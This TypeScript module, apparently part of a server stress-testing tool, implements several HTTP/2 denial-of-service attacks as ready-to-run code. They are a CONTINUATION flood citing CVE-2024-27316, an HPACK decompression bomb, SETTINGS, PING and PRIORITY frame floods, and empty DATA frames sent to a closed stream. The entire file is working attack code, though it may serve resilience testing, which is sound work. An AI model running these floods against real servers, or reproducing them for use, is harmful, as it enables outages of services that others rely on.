/** Frames without a request that make the server work, answer or allocate. */
import type { Attack, Tally, Target } from '../attack.ts';
import { aborted, count, keepConnections, pump } from '../connections.ts';
import { flags, frame, frameTypes, headerBlock, preface, uint32 } from '../frames.ts';
import { costlyRead, toFields } from '../requests.ts';

const ports = ['ingest', 'stream'] as const;
const framesPerWrite = 1000;

function frameFlood(name: string, one: Buffer, isReading: boolean): Attack {
  const many = Buffer.concat(Array.from({ length: framesPerWrite }, () => one));
  return {
    name,
    ports,
    tokens: [false],
    run: (target, stop) =>
      keepConnections({ target, stop, connections: 4, alpn: 'h2' }, async (socket, tally) => {
        if (isReading) socket.resume();
        socket.write(preface);
        await pump(socket, stop, () => {
          count(tally, 'frames', framesPerWrite);
          return many;
        });
      }),
  };
}

/** CVE-2024-27316 and others: a header block that never ends. */
const continuation: Attack = {
  name: 'CONTINUATION without end',
  ports,
  tokens: [false],
  run: (target, stop) =>
    keepConnections({ target, stop, connections: 4, alpn: 'h2' }, async (socket, tally) => {
      socket.resume();
      socket.write(preface);
      socket.write(
        frame(frameTypes.headers, { stream: 1 }, headerBlock(toFields(costlyRead(target)))),
      );
      const more = frame(
        frameTypes.continuation,
        { stream: 1 },
        headerBlock([['x', 'y'.repeat(100)]]),
      );
      const many = Buffer.concat(Array.from({ length: 100 }, () => more));
      await pump(socket, stop, () => {
        count(tally, 'frames', 100);
        return many;
      });
    }),
};

/** One table entry of 4,000 bytes and thousands of one-byte references to it. */
const hpackBomb: Attack = {
  name: 'HPACK bomb',
  ports,
  tokens: [false],
  run: (target, stop) => hpack(target, stop),
};

function hpack(target: Target, stop: AbortSignal): Promise<Tally> {
  const fields = headerBlock(toFields(costlyRead(target)));
  const length = 4000 - 127;
  // Literal with indexing, RFC 7541 §6.2.1: the newest entry has index 62.
  const entry = Buffer.concat([
    Buffer.from([0x40, 1, 0x78, 127, (length % 128) + 128, Math.floor(length / 128)]),
    Buffer.alloc(4000, 'y'),
  ]);
  const references = Buffer.alloc(10_000, 0x80 + 62);
  const flag = flags.endHeaders + flags.endStream;
  return keepConnections({ target, stop, connections: 4, alpn: 'h2' }, async (socket, tally) => {
    socket.resume();
    socket.write(preface);
    let stream = 1;
    await pump(socket, stop, () => {
      const block = Buffer.concat([fields, ...(stream === 1 ? [entry] : []), references]);
      const bytes = frame(frameTypes.headers, { stream, flag }, block);
      stream += 2;
      count(tally, 'requests');
      return bytes;
    });
  });
}

const priority = Buffer.concat([uint32(3), Buffer.from([16])]);

/** Opens, greets and leaves: the cost of a connection without requests. */
const emptyFrames: Attack = {
  name: 'empty DATA on a closed stream',
  ports,
  tokens: [false],
  run: async (target, stop) => {
    const tally = await keepConnections(
      { target, stop, connections: 4, alpn: 'h2' },
      async (socket, own) => {
        socket.resume();
        socket.write(preface);
        const flag = flags.endHeaders + flags.endStream;
        socket.write(
          frame(frameTypes.headers, { stream: 1, flag }, headerBlock(toFields(costlyRead(target)))),
        );
        const many = Buffer.concat(
          Array.from({ length: framesPerWrite }, () => frame(frameTypes.data, { stream: 1 })),
        );
        await pump(socket, stop, () => {
          count(own, 'frames', framesPerWrite);
          return many;
        });
        await aborted(stop);
      },
    );
    return tally;
  },
};

export const controlFrames: readonly Attack[] = [
  continuation,
  frameFlood('SETTINGS', frame(frameTypes.settings, {}), true),
  frameFlood('SETTINGS, answers not read', frame(frameTypes.settings, {}), false),
  frameFlood('PING', frame(frameTypes.ping, {}, Buffer.alloc(8)), true),
  frameFlood('PING, answers not read', frame(frameTypes.ping, {}, Buffer.alloc(8)), false),
  frameFlood('PRIORITY', frame(frameTypes.priority, { stream: 1 }, priority), true),
  hpackBomb,
  emptyFrames,
];
